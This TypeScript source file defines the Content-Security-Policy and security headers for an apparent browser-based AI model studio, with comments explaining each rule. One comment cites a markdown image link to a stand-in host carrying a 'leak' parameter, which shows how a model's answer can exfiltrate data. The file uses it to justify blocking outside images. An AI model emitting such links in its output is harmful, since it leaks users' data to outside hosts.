import { SANDBOX_FRAME_SCRIPT_HASH } from "./engine/eval/code/browser-frame.ts";

/**
 * The Content-Security-Policy of the built app, as a `<meta>` in index.html and as a header from
 * `vite preview`. It allows only what the studio needs:
 * - scripts from this origin, plus compiling WebAssembly (`'wasm-unsafe-eval'`: WebLLM's model
 *   library and Pyodide); no eval, so zod runs `jitless` (zod-config.ts); and the code sandbox
 *   frame's one inline script, by hash (a srcdoc frame runs under the page's policy as well as
 *   its own);
 * - workers from this origin or blob: (WebLLM's engine worker);
 * - images only from this origin, data: and blob:, so an image in a model's answer
 *   (`![x](https://other.example/p.png?leak=...)`) cannot call anywhere;
 * - connections to any http(s) or ws(s) endpoint: workers and the Conductor are endpoints the user
 *   configures (a provider over https, Ollama or vLLM over http on localhost or the LAN), so is the
 *   OpenTelemetry collector in Settings (Phoenix, Langfuse, an OTel Collector; its own CORS rules
 *   decide whether it takes the page's POST), and WebLLM downloads weights from Hugging Face;
 * - inline styles (React and React Flow set style attributes), no plugins, no frames, no forms.
 * The dev server gets no policy: Vite's hot reload injects inline scripts.
 *
 * A `<meta>` policy cannot say who may frame the page, so the headers a host sends add
 * `frame-ancestors 'none'` (and the older `X-Frame-Options: DENY`): `vite preview` sends them, and
 * a build writes them to `dist/_headers` for static hosts that read that file (Netlify, Cloudflare
 * Pages). The code sandbox's frames carry a stricter policy of their own in their document
 * (SANDBOX_FRAME_POLICY in src/engine/eval/code/browser-frame.ts), which holds under any server.
 */
export const CONTENT_SECURITY_POLICY = [
  "default-src 'self'",
  `script-src 'self' 'wasm-unsafe-eval' ${SANDBOX_FRAME_SCRIPT_HASH}`,
  "worker-src 'self' blob:",
  "style-src 'self' 'unsafe-inline'",
  "img-src 'self' data: blob:",
  "font-src 'self' data:",
  "media-src 'self' data: blob:",
  "connect-src 'self' https: http: wss: ws: data: blob:",
  "object-src 'none'",
  "frame-src 'none'",
  "base-uri 'none'",
  "form-action 'none'",
].join("; ");

/** The page's policy as a header: the meta policy plus what only a header can say. */
export const HEADER_POLICY = `${CONTENT_SECURITY_POLICY}; frame-ancestors 'none'`;

/** The headers every response of the app carries. */
export const APP_HEADERS: Readonly<Record<string, string>> = {
  "Content-Security-Policy": HEADER_POLICY,
  "X-Frame-Options": "DENY",
  "X-Content-Type-Options": "nosniff",
  "Referrer-Policy": "no-referrer",
};

/** The `_headers` file a build writes for static hosts (Netlify and Cloudflare Pages syntax). */
export function staticHostHeaders(base = "/"): string {
  const root = base.endsWith("/") ? base : `${base}/`;
  const lines = [`${root}*`, ...Object.entries(APP_HEADERS).map(([k, v]) => `  ${k}: ${v}`)];
  return lines.join("\n") + "\n";
}
